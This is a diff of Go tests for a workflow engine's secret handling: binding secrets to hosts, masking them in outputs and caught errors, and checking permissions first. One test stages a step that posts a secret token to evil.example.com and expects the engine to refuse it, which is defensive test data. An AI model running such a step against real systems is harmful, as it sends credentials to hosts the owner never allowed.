@@ -30,9 +30,9 @@ type postOutput struct {
 	Echo string `json:"echo" doc:"What the service sends back."`
 }
 
-// poster is a host whose demo.post reveals its token, as an http client does, and
-// whose service sends everything back.
-func poster(sent *[]string) *host {
+// poster returns a harness with the action demo.post, which sends the text of its token to a
+// service. The service returns what it got.
+func poster(sent *[]string) *harness {
 	post := action.New(action.Spec{Name: "demo.post", Summary: "Post.", Effect: action.Reads},
 		func(ctx context.Context, in postInput) (postOutput, error) {
 			text, err := in.Token.Reveal(ctx, action.Destination(in.Host))
@@ -48,7 +48,7 @@ func poster(sent *[]string) *host {
 			}
 			return postOutput{Echo: "you sent " + text}, nil
 		}, action.Rules[postInput]{Targets: (*postInput).targets})
-	h := newHost(post)
+	h := newHarness(post)
 	h.secrets = map[string]string{"TOKEN": secretText}
 	return h
 }
@@ -58,7 +58,8 @@ secrets: {TOKEN: {hosts: [api.example.com]}}
 permissions: {http: ["https://api.example.com", "https://other.example.com"]}
 `
 
-func TestSecretIsRevealedWhereItIsBound(t *testing.T) {
+// A secret is sent to the hosts that it is bound to. Events have only its name.
+func TestSecretIsSentWhereItIsBound(t *testing.T) {
 	for name, step := range map[string]string{
 		"uses":   "- uses: demo.post\n  with: {host: api.example.com, token: \"${{ secrets.TOKEN }}\"}\n",
 		"script": "- lua: |\n    demo.post{host = 'api.example.com', token = secrets.TOKEN}\n",
@@ -66,7 +67,7 @@ func TestSecretIsRevealedWhereItIsBound(t *testing.T) {
 		t.Run(name, func(t *testing.T) {
 			var sent []string
 			h := poster(&sent)
-			mustSucceed(t, h.run(t, secretHead+"steps:\n"+step))
+			wantSuccess(t, h.run(t, secretHead+"steps:\n"+step))
 			if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
 				t.Errorf("sent (-want +got):\n%s", diff)
 			}
@@ -79,20 +80,20 @@ func TestSecretIsRevealedWhereItIsBound(t *testing.T) {
 	}
 }
 
+// A secret is not sent to another host. The message says how to bind it.
 func TestSecretIsRefusedElsewhere(t *testing.T) {
 	var sent []string
 	h := poster(&sent)
 	got := h.run(t, secretHead+"steps:\n- lua: |\n    demo.post{host = 'other.example.com', token = secrets.TOKEN}\n")
-	mustFail(t, got, run.Failed, action.Permission)
+	wantFailure(t, got, run.Failed, action.Permission)
 	if len(sent) > 0 || !strings.Contains(got.Error.Message, "TOKEN may not go to other.example.com") ||
 		!strings.Contains(got.Error.Hint, "api.example.com, other.example.com") {
-		t.Errorf("got %+v after sending %v, want what to bind it to", got.Error, sent)
+		t.Errorf("got %+v after sending %v, want the binding in the hint", got.Error, sent)
 	}
 }
 
-// TestSecretIsNowhere: the text is in no output, event, error or log, however a
-// script tries to get at it.
-func TestSecretIsNowhere(t *testing.T) {
+// The text of a secret is in no output, event, error or log line, whatever a script does.
+func TestSecretIsMaskedEverywhere(t *testing.T) {
 	scripts := map[string]string{
 		"the answer holds it":       "return demo.post{host = 'api.example.com', token = secrets.TOKEN}",
 		"the error holds it":        "demo.post{host = 'api.example.com', token = secrets.TOKEN, note = 'fail'}",
@@ -113,34 +114,36 @@ func TestSecretIsNowhere(t *testing.T) {
 			got := h.runWith(t, context.Background(), source, action.Object{"note": "it is " + secretText})
 			everything := h.text(t) + fmt.Sprintf("%+v %+v %+v", got, got.Error, got.Steps)
 			if strings.Contains(everything, secretText) {
-				t.Errorf("the secret is in what the run tells: %s", everything)
+				t.Errorf("the secret is in the result or the events: %s", everything)
 			}
 		})
 	}
 }
 
-// TestErrorsReachScriptsRedacted: a script that could read a secret in the text
-// of an error could send it anywhere.
-func TestErrorsReachScriptsRedacted(t *testing.T) {
+// The text of a secret is masked in the errors that a script catches. Otherwise the script
+// could send it anywhere.
+func TestSecretIsMaskedInCaughtErrors(t *testing.T) {
 	var sent []string
 	h := poster(&sent)
 	script := "local _, e = pcall(demo.post, {host = 'api.example.com', token = secrets.TOKEN, note = 'fail'})\n    return #e.message"
 	got := h.run(t, secretHead+"steps:\n- id: s\n  lua: |\n    "+script+"\noutputs: {n: \"${{ steps.s.outputs }}\"}\n")
-	mustSucceed(t, got)
+	wantSuccess(t, got)
 	if want := float64(len("401 for Bearer ‹redacted›")); got.Outputs["n"] != want {
 		t.Errorf("got a message of %v bytes, want %v", got.Outputs["n"], want)
 	}
 }
 
+// The message about a returned secret has its name and its place.
 func TestReturnedSecretIsNamed(t *testing.T) {
 	var sent []string
 	got := poster(&sent).run(t, secretHead+"steps:\n- lua: |\n    return {a = {1, secrets.TOKEN}}\n")
-	mustFail(t, got, run.Failed, action.InvalidInput)
+	wantFailure(t, got, run.Failed, action.InvalidInput)
 	if want := "outputs.a[2] is ‹secret TOKEN›: a secret cannot be returned"; got.Error.Message != want {
 		t.Errorf("got %q, want %q", got.Error.Message, want)
 	}
 }
 
+// A secret input is sent where it is bound to, and masked everywhere.
 func TestSecretInput(t *testing.T) {
 	var sent []string
 	h := poster(&sent)
@@ -157,16 +160,16 @@ steps:
 	if err != nil {
 		t.Fatal(err)
 	}
-	mustSucceed(t, got)
+	wantSuccess(t, got)
 	if diff := cmp.Diff([]string{secretText}, sent); diff != "" {
 		t.Errorf("sent (-want +got):\n%s", diff)
 	}
 	if got.Steps[0].Outputs != "‹secret inputs.key›" || strings.Contains(h.text(t), secretText) {
-		t.Errorf("got %v and the events %s, want the name alone", got.Steps[0].Outputs, h.text(t))
+		t.Errorf("got %v and the events %s, want only the name", got.Steps[0].Outputs, h.text(t))
 	}
 }
 
-// TestMissingSecret: a run that lacks a secret does not begin.
+// A run without the text of a secret does not start.
 func TestMissingSecret(t *testing.T) {
 	for name, text := range map[string]string{"absent": "", "too short": "abc"} {
 		t.Run(name, func(t *testing.T) {
@@ -184,9 +187,9 @@ func TestMissingSecret(t *testing.T) {
 	}
 }
 
-// TestPermissionComesFirst: what the workflow does not list is refused before
-// anything is recorded, revealed or sent, and a script can tell.
-func TestPermissionComesFirst(t *testing.T) {
+// A call that the workflow does not permit is refused before anything is recorded or sent. A
+// script can catch the error.
+func TestPermissionIsCheckedFirst(t *testing.T) {
 	var sent []string
 	h := poster(&sent)
 	source := `
@@ -201,12 +204,12 @@ steps:
   with: {host: evil.example.com, token: "${{ secrets.TOKEN }}"}
 `
 	got := h.run(t, source)
-	mustFail(t, got, run.Failed, action.Permission)
+	wantFailure(t, got, run.Failed, action.Permission)
 	want := any(action.Object{
 		"ok": false, "kind": "permission", "action": "demo.post", "hint": `add it: permissions: {http: ["https://evil.example.com"]}`,
 	})
 	if diff := cmp.Diff(want, got.Steps[0].Outputs); diff != "" {
-		t.Errorf("what the script sees (-want +got):\n%s", diff)
+		t.Errorf("the error that the script catches (-want +got):\n%s", diff)
 	}
 	if len(sent) > 0 || len(h.calls(run.EventCallStarted)) > 0 {
 		t.Errorf("got %v sent and %d calls recorded, want none", sent, len(h.calls(run.EventCallStarted)))
